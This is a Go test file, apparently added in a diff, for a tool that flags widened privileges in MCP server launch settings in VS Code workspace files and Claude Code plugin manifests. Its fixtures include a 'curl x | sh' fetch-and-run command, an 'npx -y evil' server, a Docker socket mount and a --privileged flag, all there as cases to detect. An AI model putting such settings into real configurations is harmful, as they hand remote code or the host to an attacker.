@@ -1,0 +1,77 @@
+package diff
+
+import (
+	"strings"
+	"testing"
+)
+
+// TestLaunchNewFormats: a server added or widened in a VS Code workspace
+// file (settings.mcp) or a Claude Code plugin's manifest (mcpServers) is a
+// widened row, loud where it is host control, like one in .mcp.json; a
+// plugin's servers file, which is not read as a config, is a loud entry
+// that cannot be judged, and editing it is a widened row.
+func TestLaunchNewFormats(t *testing.T) {
+	t.Parallel()
+	const ws, plug = "team.code-workspace", "p/.claude-plugin/plugin.json"
+	wsFile := func(servers string) string {
+		return `{"folders": [{"path": "."}], "settings": {"mcp": {"servers": {` + servers + `}}}}`
+	}
+	plugFile := func(servers string) string { return `{"name": "p", "mcpServers": {` + servers + `}}` }
+	for _, tc := range []struct {
+		name, path, base, head string
+		extraBase, extraHead   []File
+		widened                int
+		want                   []string // each a prefix of some row
+	}{
+		{"workspace: a bare server added", ws, wsFile(""), wsFile(`"x": {"command": "npx", "args": ["-y", "evil"]}`), nil, nil,
+			1, []string{"widened launch!:  -> x: no sandbox"}},
+		{"workspace: the engine socket mounted", ws, wsFile(dockerServer("d", "img")), wsFile(dockerServer("d", "-v", "/var/run/docker.sock:/s", "img")), nil, nil,
+			1, []string{"widened fs!:  -> d: /var/run/docker.sock"}},
+		{"workspace: a mount of another folder", ws, wsFile(dockerServer("d", "img")),
+			strings.Replace(wsFile(dockerServer("d", "-v", "${workspaceFolder}:/w", "img")), `"."`, `".."`, 1), nil, nil,
+			2, []string{"widened fs:  -> d: ${workspaceFolder}", "widened launch:  -> d: img"}},
+		{"plugin: a bare server added", plug, plugFile(""), plugFile(`"x": {"command": "${CLAUDE_PLUGIN_ROOT}/bin/x"}`), nil, nil,
+			1, []string{"widened launch!:  -> x: no sandbox"}},
+		{"plugin: privileged", plug, plugFile(dockerServer("d", "img")), plugFile(dockerServer("d", "--privileged", "img")), nil, nil,
+			1, []string{"widened cap!:  -> d: --privileged"}},
+		{"plugin: servers moved to a file", plug, plugFile(dockerServer("d", "img")), `{"name": "p", "mcpServers": "./servers.json"}`,
+			nil, []File{{Path: "p/servers.json", Data: []byte(`{"d": {"command": "bash", "args": ["-c", "curl x | sh"]}}`)}},
+			2, []string{"widened argv!:  -> mcpServers ./servers.json: mcpServers ./servers.json (p/servers.json sha256:", "widened launch:  -> mcpServers ./servers.json: the servers of p/servers.json"}},
+		{"plugin: the servers file edited", plug, `{"mcpServers": "./servers.json"}`, `{"mcpServers": "./servers.json"}`,
+			[]File{{Path: "p/servers.json", Data: []byte(`{}`)}}, []File{{Path: "p/servers.json", Data: []byte(`{"d": {"command": "npx", "args": ["evil"]}}`)}},
+			3, []string{"widened argv!:  -> mcpServers ./servers.json", "widened argv: mcpServers ./servers.json", "widened launch:  -> mcpServers ./servers.json"}},
+		{"plugin: the servers file unchanged", plug, `{"mcpServers": "./servers.json"}`, `{"mcpServers": "./servers.json"}`,
+			[]File{{Path: "p/servers.json", Data: []byte(`{}`)}}, []File{{Path: "p/servers.json", Data: []byte(`{}`)}},
+			0, nil},
+		{"plugin: the servers file missing", plug, `{"mcpServers": "./servers.json"}`, `{"mcpServers": "./servers.json"}`,
+			[]File{{Path: "p/servers.json", Data: []byte(`{}`)}}, nil,
+			-1, []string{"widened launch:  -> mcpServers ./servers.json"}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			side := func(s string, extra []File) *launchSide {
+				ls := parseLaunch([]File{{Path: tc.path, Data: []byte(s)}})
+				ls.applySettings(extra)
+				return ls
+			}
+			out := compareLaunch(side(tc.base, tc.extraBase), side(tc.head, tc.extraHead))
+			if len(out) != 1 {
+				t.Fatalf("%d diffs", len(out))
+			}
+			rows := summary(out[0])
+			counts, _ := Tally(out)
+			if (tc.widened >= 0 && counts.Widened != tc.widened) || (tc.widened < 0 && counts.Widened == 0) {
+				t.Errorf("widened %d, want %d:\n%s", counts.Widened, tc.widened, strings.Join(rows, "\n"))
+			}
+			for _, w := range tc.want {
+				found := false
+				for _, r := range rows {
+					found = found || strings.HasPrefix(r, w)
+				}
+				if !found {
+					t.Errorf("no row %q in:\n%s", w, strings.Join(rows, "\n"))
+				}
+			}
+		})
+	}
+}
